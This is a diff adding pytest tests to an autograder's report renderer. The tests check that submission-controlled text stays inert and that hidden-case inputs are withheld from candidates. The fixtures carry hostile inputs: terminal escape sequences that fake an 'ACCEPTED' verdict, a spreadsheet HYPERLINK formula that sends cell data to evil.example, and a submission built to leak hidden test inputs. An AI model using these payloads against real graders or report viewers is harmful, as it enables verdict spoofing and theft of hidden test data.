@@ -11,6 +11,7 @@ with the standard library and checked against the structure CI systems read (Ant
 import json
 import math
 import os
+import re
 import subprocess
 import sys
 import tempfile
@@ -411,3 +412,128 @@ def test_a_wrong_scoring_table_is_refused_with_the_reason(table, why):
     data = tomllib.loads((ROOT / "problem" / "spec.toml").read_text())
     with pytest.raises(ValueError, match=why):
         parse_spec(data | {"scoring": table})
+
+
+# --- Text a submission controls is inert in every format ---------------------------------------------
+
+# What no report may carry raw: lone surrogates (no UTF-8 file can hold them), C0 controls but tab and
+# newline, DEL, C1 controls, bidirectional overrides and isolates, and the noncharacters XML forbids.
+RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069\ufffe\uffff]")
+OVERWRITE = "\x1b[2K\rVerdict:    ACCEPTED"  # on a terminal: erase the line, back to its start, write over it
+NASTY = f"lone \ud800 and \udfff, NUL \x00, bell \x07, DEL \x7f, C1 \x9b2K, title \x1b]0;owned\x07, {OVERWRITE}\x1b[1A{OVERWRITE}\r\n, bidi \u202e"
+FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
+
+
+def nasty_report() -> Report:
+    """A report whose every text a submission could have chosen holds what would break a format."""
+    public = case("public_nasty", "basic", Verdict.RUNTIME_ERROR, public=True, message="raised during the call:\n" + NASTY)
+    public.check = "exception"
+    hidden = case("hidden_nasty", "basic", Verdict.RUNTIME_ERROR, message="raised an exception (the message of a hidden case is not shown)")
+    hidden.check, hidden.staff_message = "exception", "raised during the call:\n" + NASTY  # what staff alone read
+    cases = [public, hidden, case("wrong", "basic", Verdict.WRONG_ANSWER, message=NASTY), case("never", "basic", NOT_RUN, seconds=None)]
+    message = f"case public_nasty failed (0 of 4 cases passed): raised during the call:\n{NASTY}"
+    report = Report(Verdict.RUNTIME_ERROR, message, f"{FORMULA_ID}{NASTY}.py", "id", "process", cases=cases, stdout=NASTY, stderr=NASTY)
+    report.hints, report.diagnosis, report.warnings = [NASTY], [NASTY], [NASTY]
+    report.staff_stdout, report.staff_stderr = NASTY + NASTY, NASTY + NASTY
+    return report
+
+
+def strings_of(data: object) -> list[str]:
+    """Every string in parsed JSON, keys included."""
+    if isinstance(data, str):
+        return [data]
+    if isinstance(data, dict):
+        return [*data.keys(), *(s for value in data.values() for s in strings_of(value))]
+    if isinstance(data, list):
+        return [s for item in data for s in strings_of(item)]
+    return []
+
+
+@pytest.mark.parametrize("staff", [False, True], ids=["candidate", "staff"])
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_text_a_submission_controls_is_inert_in_every_format(fmt, staff):
+    shown = render(nasty_report(), fmt, load_spec(), Options(verbose=True, staff=staff))
+    shown.encode("utf-8")  # a lone surrogate would make printing or writing the report fail
+    assert not RAW_CONTROLS.search(shown), repr(RAW_CONTROLS.search(shown))
+    if fmt == "text":
+        assert [line for line in shown.splitlines() if line.startswith("Verdict:")] == ["Verdict:    RUNTIME_ERROR"]
+        assert "\\x1b[2K\\x0dVerdict:    ACCEPTED\\x1b[1A" in shown and "NUL \\x00" in shown  # shown, as escapes
+        return
+    if fmt == "junit":
+        suite = ET.fromstring(shown.encode())
+        check_junit_structure(suite)
+        texts = [t for element in suite.iter() for t in (element.text or "", *element.attrib.values())]
+        assert any("\\x1b[2K\\x0dVerdict:    ACCEPTED" in t for t in texts)
+    else:
+        data = json.loads(shown)
+        if fmt in ("gradescope", "prairielearn"):
+            jsonschema.validate(data, GRADESCOPE_SCHEMA if fmt == "gradescope" else PRAIRIELEARN_SCHEMA)
+        texts = strings_of(data)
+        assert any("\\x1b[2K\\x0dVerdict:    ACCEPTED" in t for t in texts)
+    assert not [t for t in texts if RAW_CONTROLS.search(t)]  # nor once parsed, where a platform shows it
+
+
+# --- What the submission raised or printed during a hidden case is the staff's alone ------------------
+
+LEAKER = '''"""Tries to read the hidden cases back from its report: every call raises an exception that
+spells out its inputs, and prints the call's number and its inputs first."""
+
+CALLS = []
+
+
+def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
+    CALLS.append(1)
+    print("PRINTED call", len(CALLS), "LEAK", input_ids.flatten().tolist())
+    raise ValueError("LEAK " + str(input_ids.flatten().tolist()) + " " + str(w_emb.flatten().tolist()))
+'''
+
+
+@cache
+def leaker_report() -> Report:
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "leaker.py"
+        path.write_text(LEAKER)
+        [(_, report)] = Pool(load_spec(), SEED, jobs=1).map([("leaker", path)])
+    return report
+
+
+def hidden_inputs() -> list[str]:
+    """How the leaker spells each hidden case's inputs (long enough to be told apart)."""
+    from grader.cases import make_cases
+
+    spelled = [str(case.inputs["input_ids"].flatten().tolist()) for case in make_cases(load_spec(), SEED) if not case.public]
+    return [text for text in spelled if len(text) > 12]
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_what_the_submission_raised_or_printed_during_a_hidden_case_is_withheld_from_the_candidate(fmt):
+    report = leaker_report()
+    assert report.verdict == "runtime_error" and [c.status for c in report.cases] == ["runtime_error"] * len(report.cases)
+    shown = render(report, fmt, load_spec(), Options(verbose=True))
+    assert hidden_inputs() and not [text for text in hidden_inputs() if text in shown]  # not one hidden input, bit for bit
+    publics = [c for c in report.cases if c.public]
+    for c in report.cases:
+        if c.public:  # a public case keeps its whole message
+            assert "LEAK [" in c.message and "ValueError" in c.message
+        else:
+            assert "LEAK" not in c.message and "the message of a hidden case is not shown" in c.message, c.message
+    # What it printed during the public cases is shown; from the first hidden case on, nothing.
+    assert f"PRINTED call {len(publics)} LEAK" in report.stdout and f"PRINTED call {len(publics) + 1} " not in report.stdout
+    assert "printed once the hidden cases began is not shown" in report.stdout
+    if fmt in ("json", "junit"):  # the platforms' results.json hold no output; the text report its beginning and end
+        assert f"PRINTED call {len(publics)} LEAK" in shown
+
+
+def test_staff_see_what_was_withheld_where_they_look():
+    report, spec = leaker_report(), load_spec()
+    staff = json.loads(render(report, "json", spec, Options(staff=True)))
+    withheld = staff["staff_only"]
+    assert [name for name in withheld["cases"]] == [c.name for c in report.cases if not c.public]
+    assert all("LEAK [" in message for message in withheld["cases"].values())
+    assert f"PRINTED call {len(report.cases)} " in withheld["stdout"]
+    student = json.loads(render(report, "json", spec, Options()))
+    assert "staff_only" not in student and {k: v for k, v in staff.items() if k != "staff_only"} == student
+    text = render(report, "text", spec, Options(staff=True, verbose=True))
+    assert all(inputs in text for inputs in hidden_inputs())
+    for fmt in ("gradescope", "prairielearn"):  # what students read never holds it, even when staff ask
+        assert not [inputs for inputs in hidden_inputs() if inputs in render(report, fmt, spec, Options(staff=True))]
